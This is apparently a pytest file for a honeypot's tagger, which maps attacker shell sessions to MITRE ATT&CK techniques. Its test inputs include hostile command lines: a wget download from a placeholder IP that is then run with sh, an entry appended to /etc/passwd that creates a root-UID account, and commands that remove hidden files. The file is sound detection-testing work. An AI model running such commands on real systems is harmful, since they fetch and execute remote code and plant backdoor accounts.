"""What a session tells about its commands becomes tags: the rules of context, what they replace, and their evidence."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from decnet.bounds import BITES
from decnet.bus.base import Event
from decnet.errors import RuleError
from decnet.runtime.received import received
from decnet.ttp.context import SCRIPT_CAPPED, reason_of, session_context
from decnet.ttp.events import tagger_events
from decnet.ttp.loader import load_dir, load_file
from decnet.ttp.offline import OfflineTagger
from decnet.ttp.offline_sessions import tag_session
from decnet.ttp.rule_engine import RuleEngine
from decnet.ttp.rules import RuleState
from decnet.ttp.schema import RuleSchema
from decnet.ttp.selftest import run_rule_tests
from decnet_tui.cli.main import app

ROOT = Path(__file__).parents[2]
RULES = ROOT / "rules" / "ttp"
CASES = json.loads((Path(__file__).parents[1] / "fixtures" / "cases" / "sessions.json").read_text("utf-8"))
PROBE = ["echo 77 > /var/tmp/.probe9", "cat /var/tmp/.probe9", "rm -f /var/tmp/.probe9"]


@pytest.fixture(scope="module")
def tagger() -> OfflineTagger:
    return OfflineTagger(RULES)


def ended(lines: list[str], **more: Any) -> Event:
    commands = [{"id": f"s#cmd{n}", "command_text": text, "ts": 100.0 + n} for n, text in enumerate(lines)]
    payload = {"session_id": "s", "attacker_ip": "192.0.2.7", "ended_at": 200.0, "commands": commands}
    return Event("attacker.session.ended", {**payload, **more}, id="e", ts=200.0)


def techniques(tags: list[dict[str, Any]]) -> set[str]:
    return {tag["sub_technique_id"] or tag["technique_id"] for tag in tags}


@pytest.mark.parametrize("case", CASES, ids=[case["id"] for case in CASES])
def test_every_line_of_a_session_has_its_techniques(case: dict[str, Any], tagger: OfflineTagger) -> None:
    answer = tag_session(tagger, {"session": case["id"], "commands": [line["cmd"] for line in case["lines"]]})
    assert [c["input"] for c in answer["commands"]] == [line["cmd"] for line in case["lines"]]
    for line, command in zip(case["lines"], answer["commands"], strict=True):
        found = techniques(command["tags"])
        assert set(line["tags"]) <= found, line["cmd"]
        assert not found & set(line["not"]), line["cmd"]


def engine() -> RuleEngine:
    made = RuleEngine()
    made.replace(load_dir(RULES).rules, {})
    return made


def test_evidence_names_the_line_that_a_tag_rests_on() -> None:
    made = engine()
    events = tagger_events(received(ended(["cd /tmp", "wget http://203.0.113.9/a.sh", "sh a.sh"])))
    (last,) = [e for e in events if e.source_id == "s#cmd2"]
    (tag,) = [t for t in made.evaluate(last) if t.rule_id == "R0901"]
    assert (tag.technique_id, tag.sub_technique_id, tag.source_kind) == ("T1059", "T1059.004", "command")
    assert tag.evidence is not None
    assert tag.evidence["because"] == "fetched by line 2: wget http://203.0.113.9/a.sh"
    assert (tag.evidence["field"], tag.evidence["matched"]) == ("exec.origin", "fetched")


def test_what_is_replaced_is_counted_and_a_disabled_rule_replaces_nothing() -> None:
    made = engine()
    (event,) = [e for e in tagger_events(received(ended(PROBE))) if e.source_id == "s#cmd0"]
    found = {t.sub_technique_id or t.technique_id for t in made.evaluate(event)}
    assert "T1083" in found
    assert "T1564.001" not in found
    assert made.replaced == {"R0078": 1}
    made.replace_states({"R0920": RuleState("disabled")})
    assert "T1564.001" in {t.sub_technique_id for t in made.evaluate(event)}
    assert made.replaced == {"R0078": 1}


def test_only_the_text_that_a_rule_holds_for_loses_tags() -> None:
    made = engine()
    line = "echo 77 > /var/tmp/.probe9; mkdir /tmp/.hidden; mv /tmp/x /tmp/.y"
    (event,) = [e for e in tagger_events(received(ended([line]))) if e.source_kind == "command"]
    alone = {t.rule_id for t in made.evaluate(event._replace(payload={"command_text": "mkdir /tmp/.hidden"}))}
    assert alone <= {t.rule_id for t in made.evaluate(event)} | {"R0078"}


def test_what_is_replaced_in_every_command_of_a_line_falls_away() -> None:
    made = engine()
    (event,) = [e for e in tagger_events(received(ended([" && ".join(PROBE)]))) if e.source_kind == "command"]
    assert {t.sub_technique_id or t.technique_id for t in made.evaluate(event)} == {"T1083"}
    assert made.replaced == {"R0078": 1}, "R0047 does not even hold: a probe is no work"


def test_what_is_replaced_in_one_command_stands_for_another_of_the_line() -> None:
    line = "./x; echo 77 > /var/tmp/.probe9; mkdir /tmp/.hidden; rm -f /tmp/other.sh"
    (event,) = [e for e in tagger_events(received(ended([line]))) if e.source_kind == "command"]
    assert {"R0078", "R0047", "R0920"} <= {t.rule_id for t in engine().evaluate(event)}


def test_lines_that_the_shell_saw_as_one_are_read_as_one() -> None:
    lines = ["cat > /tmp/q <<EOF", "id; uname -a", "EOF", "sh /tmp/q"]
    joined = [
        {"id": "s#cmd0+2", "command_text": "\n".join(lines[:3]), "lines": ["s#cmd0", "s#cmd1", "s#cmd2"]}
    ]
    record = received(ended(lines, joined=joined)).record
    told = session_context(record)  # type: ignore[arg-type]
    assert set(told) == {"s#cmd0+2", "s#cmd3"}
    (facts,) = told["s#cmd3"].context.values()
    assert facts.values["exec.origin"] == ["written"]


def test_files_that_the_sensor_saw_come_are_known() -> None:
    uploads = [{"filename": "/tmp/quonba", "sha256": "ab" * 32}]
    record = received(ended(["./quonba"], uploads=uploads)).record
    (facts,) = session_context(record)["s#cmd0"].context.values()  # type: ignore[arg-type]
    assert facts.values["later.exec"] == ["uploaded"]


def test_how_a_session_got_in_is_told_of_each_of_its_lines() -> None:
    auth = {"success": True, "usernames": ["root"], "default_pair": True}
    lines = ["id", "useradd -m sv2", "su - sv2", "wget http://203.0.113.9/x"]
    session, *events = tagger_events(received(ended(lines, auth=auth)))
    assert session.payload["session.login"] == ["default_pair"]
    commands = [event.payload for event in events if event.source_kind == "command"]
    assert [said["session.login"] for said in commands] == [
        ["default_pair"], ["default_pair"], ["default_pair", "new_user"], ["default_pair", "new_user"],
    ]  # fmt: skip
    assert reason_of(commands[0], "id", "session.login") == (
        "got in with a user and password that devices are delivered with"
    )
    assert reason_of(commands[3], "", "session.login") == (
        "got in with a user and password that devices are delivered with; as sv2, made by line 2: useradd -m sv2"
    )
    assert reason_of(commands[3], "", "session.login", "new_user") == "as sv2, made by line 2: useradd -m sv2"
    other = tagger_events(received(ended(lines[:2], auth={**auth, "default_pair": False})))
    assert [event.source_kind for event in other if "session.login" in event.payload] == []


def test_the_rule_on_the_account_that_was_made_says_where() -> None:
    lines = ["echo 'sv2:x:0:0::/root:/bin/sh' >> /etc/passwd", "su sv2 -c id"]
    said = [e for e in tagger_events(received(ended(lines))) if e.source_id == "s#cmd1"]
    (tag,) = [t for t in engine().evaluate(said[0]) if t.rule_id == "R0978"]
    assert (tag.sub_technique_id, tag.evidence["matched"]) == ("T1078.003", "new_user")
    assert tag.evidence["because"].startswith("as sv2, made by line 1: echo 'sv2:x:0:0")


def test_bounds_are_counted_for_health() -> None:
    before = BITES[SCRIPT_CAPPED]
    session_context(received(ended(["; ".join(f"x{n}" for n in range(259))])).record)  # type: ignore[arg-type]
    assert BITES[SCRIPT_CAPPED] - before == 3


RULE = """
rule_id: X1
rule_version: 1
name: x
description: x
applies_to: [command]
match: {field: exec.origin, op: in, value: [fetched]}
emits: [{tactic: TA0002, technique_id: T1059, confidence: 0.9}]
tests:
  match: [%s]
"""


def flaws_of(folder: Path, example: str) -> list[RuleError]:
    path = folder / "x.yaml"
    path.write_text(RULE % example, "utf-8")
    rule, errors = load_file(path)
    assert errors == []
    assert rule is not None
    return run_rule_tests([rule])


def test_examples_may_be_sessions_and_name_the_line_that_is_meant(tmp_path: Path) -> None:
    assert flaws_of(tmp_path, '["wget http://203.0.113.9/a", "./a"]') == []
    assert flaws_of(tmp_path, '{session: ["wget http://203.0.113.9/a", "./a", "ls"], fires: 2}') == []
    (wrong,) = flaws_of(tmp_path, '["wget http://203.0.113.9/a", "ls"]')
    assert "does not match" in str(wrong)
    (outside,) = flaws_of(tmp_path, '{session: ["ls"], fires: 2}')
    assert "fires names one of 1 lines" in str(outside)


def test_replaces_takes_techniques_only() -> None:
    body = {
        "rule_id": "X1", "rule_version": 1, "name": "x", "description": "x", "applies_to": ["command"],
        "match": {"pattern": "x"}, "emits": [{"tactic": "TA0002", "technique_id": "T1059", "confidence": 0.9}],
    }  # fmt: skip
    assert RuleSchema.model_validate({**body, "replaces": ["T1070.004"]}).replaces == ["T1070.004"]
    with pytest.raises(ValueError, match="replaces"):
        RuleSchema.model_validate({**body, "replaces": ["rm"]})


def test_sessions_are_answered_in_order_and_what_is_none_is_named() -> None:
    lines = [
        json.dumps({"session": "one", "commands": ["wget http://203.0.113.9/a", {"text": "./a", "ts": 5}]}),
        json.dumps(
            {"session": "two", "commands": [], "uploads": [{"filename": "/tmp/x.sh", "sha256": "ab" * 32}]}
        ),
        "no json",
        json.dumps({"session": "three", "commands": [7]}),
    ]
    done = CliRunner().invoke(app, ["tag", "--sessions", "-"], input="\n".join(lines) + "\n")
    assert done.exit_code == 1
    answers = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
    assert [answer.get("session") for answer in answers] == ["one", "two", None, None]
    assert [command["input"] for command in answers[0]["commands"]] == ["wget http://203.0.113.9/a", "./a"]
    assert "T1059.004" in techniques(answers[0]["commands"][1]["tags"])
    assert "T1105" in techniques(answers[1]["session_tags"])
    assert [answer["line"] for answer in answers[2:]] == [3, 4]
    assert "line 3: no session" in done.stderr


@pytest.mark.parametrize(
    "line",
    [
        "echo -n x > /dev/shm/.t && cat /dev/shm/.t && rm /dev/shm/.t",
        "echo 1 > /tmp/.p; rm /tmp/.p; rm -rf /tmp/loader.sh",
        "cd /tmp; echo 1 > .x; rm .x; echo 2 > .y; rm .y",
    ],
)
def test_what_is_replaced_is_the_same_on_one_line_as_line_by_line(line: str, tagger: OfflineTagger) -> None:
    parts = line.replace(" &&", ";").split("; ")
    found = [
        {(tag["rule_id"], tag["technique_id"]) for command in answer["commands"] for tag in command["tags"]}
        for answer in (tag_session(tagger, {"session": "s", "commands": lines}) for lines in ([line], parts))
    ]
    assert found[0] == found[1]


def test_a_technique_stays_that_holds_on_another_command_of_the_line(tagger: OfflineTagger) -> None:
    kept, gone = (
        techniques(tag_session(tagger, {"session": "s", "commands": [line]})["commands"][0]["tags"])
        for line in (
            "./x; echo 1 > /tmp/.p; rm /tmp/.p; rm -rf /tmp/loader.sh",
            "./x; echo 1 > /tmp/.p; rm /tmp/.p",
        )
    )
    assert kept - gone == {"T1070.004"}
    assert "T1564.001" not in kept
